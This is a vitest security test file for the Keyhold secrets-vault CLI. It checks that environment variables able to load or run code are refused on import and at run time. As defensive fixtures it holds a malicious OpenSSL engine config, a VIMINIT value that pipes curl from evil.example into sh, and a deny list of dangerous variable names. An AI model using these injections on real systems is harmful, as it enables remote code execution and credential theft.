import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildChildEnv } from '../../src/core/devflow';
import { importFile } from '../../src/core/share/exchange';
import { Vault } from '../../src/core/vault/vault';
import { expectKeyholdError } from '../fixtures/share/samples';
import { writeLegacyProfile } from '../helpers/legacy';
import { PASSWORD } from '../helpers/vault';
import { cliVault } from './cli-env';
import { hostileBundle, useReceiver } from './hostile-bundle';

// Attack: the names a teammate's .env file or bundle can set were checked against a list that
// missed some of the variables that make a program load or run code. Three of them, reproduced:
// - OPENSSL_CONF names a config whose engine section makes every program that reads it (the
//   openssl tool, curl, Python's ssl, Node itself) dlopen() a shared object of the file's choosing;
// - VIMINIT is Ex commands Vim runs at start-up: `:!cmd` runs a shell command as soon as git opens
//   the editor for a commit;
// - KEYHOLD_VAULT (or KEYHOLD_INSECURE_TEST_KDF…) in a profile is injected like any other key, so a
//   keyhold the program starts (an apiKeyHelper, a wrapped MCP server) opens another vault, or
//   accepts a weaker key derivation. Only the inherited environment was stripped of them.

// An OpenSSL config as the attack writes it. Node reads the `nodejs_conf` section, other programs
// `openssl_conf`; the engine's `dynamic_path` is loaded before the program runs a line of its own.
const EVIL_SO = '/nonexistent/keyhold-evil-engine.so';
const EVIL_CNF = [
  'nodejs_conf = init',
  'openssl_conf = init',
  '[init]',
  'engines = engines_sect',
  '[engines_sect]',
  'evil = evil_sect',
  '[evil_sect]',
  `dynamic_path = ${EVIL_SO}`,
  '',
].join('\n');

describe('OPENSSL_CONF from a .env file or a vault', () => {
  let v: Awaited<ReturnType<typeof cliVault>>;
  let cnf: string;
  beforeAll(async () => {
    v = await cliVault('keyhold-sec-openssl-');
    cnf = join(v.dir, 'evil.cnf');
    writeFileSync(cnf, EVIL_CNF);
    // A vault written before the rule, holding it: straight to the rows, with no allowance stored.
    const vault = Vault.open(v.env.KEYHOLD_VAULT);
    await vault.unlock(PASSWORD);
    try {
      writeLegacyProfile(vault, { agentId: 'app', name: 'old', authData: { API_KEY: 'sk-live-0123456789', OPENSSL_CONF: cnf } });
    } finally {
      vault.close();
    }
  });
  afterAll(() => v.cleanup());

  it('is refused when a profile is created from the .env file, naming the key, and nothing is stored', async () => {
    const file = join(v.dir, 'team.env');
    writeFileSync(file, `API_KEY=sk-live-0123456789\nOPENSSL_CONF=${cnf}\n`);
    const r = await v.run(['profile', 'add', '--agent', 'app', '--name', 'dev', '--from-env', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/"OPENSSL_CONF" \(OpenSSL\)/);
    expect(r.stderr).toContain('To allow one: --allow-env NAME.');
    expect(r.stderr).not.toContain('evil.cnf');
    expect((await v.ok(['profile', 'list', '--json'])).json<{ name: string }[]>().map((p) => p.name)).toEqual(['old']);
  });

  it('"run" refuses a vault that already holds it; allowed for that run, Node loads the shared object the file names', async () => {
    const script = ['-e', 'console.log("started")'];
    const refused = await v.run(['run', '--profile', 'app/old', '--no-mask', '--', process.execPath, ...script]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/Profile app\/old has a key .*"OPENSSL_CONF" \(OpenSSL\)/);
    expect(refused.stdout).toBe('');
    expect(refused.stderr).not.toContain(EVIL_SO);
    // What the refusal prevents: Node dlopen()s the file's engine before running a line of the script
    // (here a path that does not exist, so Node stops and says which file it tried to load).
    const allowed = await v.run(['run', '--profile', 'app/old', '--allow-env', 'OPENSSL_CONF', '--no-mask', '--', process.execPath, ...script]);
    expect(allowed.code).not.toBe(0);
    expect(allowed.stderr).toContain(EVIL_SO);
    expect(allowed.stdout).toBe('');
  });
});

describe('a bundle that sets VIMINIT', () => {
  const bob = useReceiver();
  const EVIL = { API_KEY: 'sk-live-0123456789', VIMINIT: ':!curl -s https://evil.example/x | sh' };

  it('is flagged in the import preview, and refused on import unless allowed by name', async () => {
    const path = await hostileBundle(bob.vault, bob.dir, [{ agentId: 'agent', name: 'prod', authData: EVIL, saveSession: false }]);
    const { preview } = await importFile(bob.vault, path, { dryRun: true });
    expect(preview.profiles[0]).toMatchObject({ keys: ['API_KEY', 'VIMINIT'], dangerousKeys: ['VIMINIT'] });
    expect(preview.warnings.join(' ')).toContain('VIMINIT');

    const before = bob.vault.audit.list({ limit: 1000 }).length;
    const error = await expectKeyholdError(() => importFile(bob.vault, path, { trustSigner: true }), 'DangerousKey', /"VIMINIT" in "agent\/prod"/);
    expect(error.field).toBe('allowEnv');
    expect(error.message).not.toContain('evil.example');
    expect(bob.vault.profiles.list()).toEqual([]);
    expect(bob.vault.audit.list({ limit: 1000 })).toHaveLength(before);
  });

  it('is refused by run at injection time unless allowed for that run', async () => {
    const sources = [{ label: 'profile agent/prod', values: EVIL }];
    await expectKeyholdError(() => buildChildEnv(sources, 'linux'), 'DangerousKey', /"VIMINIT" \(editors, pagers and prompts\)/);
    expect(buildChildEnv(sources, 'linux', ['viminit'])).toEqual(EVIL);
  });

  it('flags the other names that make a common program run, load or trust what the sender chose, whatever the case', async () => {
    const names = [
      'OPENSSL_CONF',
      'OPENSSL_ENGINES',
      'OPENSSL_MODULES',
      'SSLKEYLOGFILE',
      'VIMINIT',
      'EXINIT',
      'VIMRUNTIME',
      'LESS',
      'AWS_CONFIG_FILE',
      'AWS_SHARED_CREDENTIALS_FILE',
      'KUBECONFIG',
      'DOCKER_CONFIG',
      'MAVEN_OPTS',
      'GRADLE_OPTS',
      'SBT_OPTS',
      'ANT_OPTS',
      'CARGO_BUILD_RUSTC_WRAPPER',
      'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER',
      'CARGO_HOME',
      'GOENV',
      'GONOSUMDB',
      'RSYNC_RSH',
      'SVN_SSH',
      'CVS_RSH',
      'PIP_INDEX_URL',
      'PIP_CONFIG_FILE',
      'GNUPGHOME',
      'SSH_AUTH_SOCK',
      'https_proxy',
      'ALL_PROXY',
      'XDG_DATA_DIRS',
      'GIT_COMMON_DIR',
    ];
    const authData = Object.fromEntries(names.map((n) => [n, 'x']));
    const path = await hostileBundle(bob.vault, bob.dir, [{ agentId: 'agent', name: 'many', authData, saveSession: false }]);
    const { preview } = await importFile(bob.vault, path, { dryRun: true });
    expect(preview.profiles[0]?.dangerousKeys).toEqual(names);
    await expectKeyholdError(() => importFile(bob.vault, path, { trustSigner: true }), 'DangerousKey', /"OPENSSL_CONF" in "agent\/many"/);
    expect(bob.vault.profiles.list()).toEqual([]);
  });
});

describe("a key named like one of Keyhold's own variables", () => {
  const bob = useReceiver();
  const NESTED = { API_KEY: 'sk-live-0123456789', KEYHOLD_VAULT: '/tmp/attacker-vault', KEYHOLD_INSECURE_TEST_KDF: '1' };

  it('is refused on import even when allowed by name, and the preview flags it', async () => {
    const path = await hostileBundle(bob.vault, bob.dir, [{ agentId: 'agent', name: 'prod', authData: NESTED, saveSession: false }]);
    const { preview } = await importFile(bob.vault, path, { dryRun: true });
    expect(preview.profiles[0]?.dangerousKeys).toEqual(['KEYHOLD_VAULT', 'KEYHOLD_INSECURE_TEST_KDF']);
    // The preview does not tell the person to allow what no allowance lets through.
    expect(preview.warnings).toContain(
      "1 profile(s) carry Keyhold's own variables (KEYHOLD_VAULT, KEYHOLD_INSECURE_TEST_KDF), which no allowance lets through: nothing can be imported until the sender renames them.",
    );
    expect(preview.warnings.join('\n')).not.toMatch(/each must be allowed by name/);
    for (const allowEnv of [[], ['KEYHOLD_VAULT', 'KEYHOLD_INSECURE_TEST_KDF']]) {
      const error = await expectKeyholdError(
        () => importFile(bob.vault, path, { trustSigner: true, allowEnv }),
        'DangerousKey',
        /"KEYHOLD_VAULT", "KEYHOLD_INSECURE_TEST_KDF" are variables of Keyhold itself/,
      );
      expect(error.field).toBe('KEYHOLD_VAULT');
      expect(error.message).not.toContain('attacker-vault');
    }
    expect(bob.vault.profiles.list()).toEqual([]);
  });

  it('cannot be stored in a profile, allowed or not', async () => {
    for (const allowEnv of [[], ['keyhold_vault']]) {
      await expectKeyholdError(
        () => bob.vault.profiles.create({ agentId: 'agent', name: 'prod', authData: { API_KEY: 'k', keyhold_vault: '/tmp/x' }, saveSession: false, allowEnv }),
        'DangerousKey',
        /Profile "agent\/prod": "keyhold_vault" is a variable of Keyhold itself/,
      );
    }
    expect(bob.vault.profiles.list()).toEqual([]);
  });

  it('is refused by run, even when allowed for that run', async () => {
    const sources = [{ label: 'profile agent/prod', values: NESTED }];
    for (const allowEnv of [[], ['KEYHOLD_VAULT', 'KEYHOLD_INSECURE_TEST_KDF']]) {
      const error = await expectKeyholdError(() => buildChildEnv(sources, 'linux', allowEnv), 'DangerousKey', /^Profile agent\/prod: "KEYHOLD_VAULT"/);
      expect(error.field).toBe('KEYHOLD_VAULT');
    }
  });
});

describe('KEYHOLD_VAULT through the CLI', () => {
  let v: Awaited<ReturnType<typeof cliVault>>;
  beforeAll(async () => {
    v = await cliVault('keyhold-sec-nested-');
    const vault = Vault.open(v.env.KEYHOLD_VAULT);
    await vault.unlock(PASSWORD);
    try {
      writeLegacyProfile(vault, { agentId: 'app', name: 'old', authData: { API_KEY: 'sk-live-0123456789', KEYHOLD_VAULT: join(v.dir, 'other') } });
    } finally {
      vault.close();
    }
  });
  afterAll(() => v.cleanup());

  it('"profile add --allow-env KEYHOLD_VAULT" is refused with its own reason, not a hint to allow it', async () => {
    const r = await v.run(['profile', 'add', '--agent', 'app', '--name', 'dev', '--set', 'KEYHOLD_VAULT=/tmp/other', '--allow-env', 'KEYHOLD_VAULT']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('"KEYHOLD_VAULT" is a variable of Keyhold itself');
    expect(r.stderr).not.toContain('--allow-env NAME');
    expect((await v.ok(['profile', 'list', '--json'])).json<{ name: string }[]>().map((p) => p.name)).toEqual(['old']);
  });

  it('"run" refuses a vault that already holds it, allowed or not, and the program never starts', async () => {
    for (const allow of [[], ['--allow-env', 'KEYHOLD_VAULT']]) {
      const r = await v.run(['run', '--profile', 'app/old', ...allow, '--no-mask', '--', process.execPath, '-e', 'console.log(process.env.KEYHOLD_VAULT)']);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/Profile app\/old: "KEYHOLD_VAULT" is a variable of Keyhold itself/);
      expect(r.stdout).toBe('');
    }
  });

  it('a keyhold.toml that lists it is refused when read: by trust, before anything is trusted', async () => {
    const project = join(v.dir, 'project');
    mkdirSync(project);
    writeFileSync(join(project, 'keyhold.toml'), '[env]\nKEYHOLD_VAULT = "keyhold://profile/app/old/API_KEY"\n');
    const r = await v.run(['trust', project, '--yes']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('keyhold.toml: "KEYHOLD_VAULT" is a variable of Keyhold itself');
    expect((await v.ok(['trust', '--list', '--json'])).json<unknown[]>()).toEqual([]);
  });
});
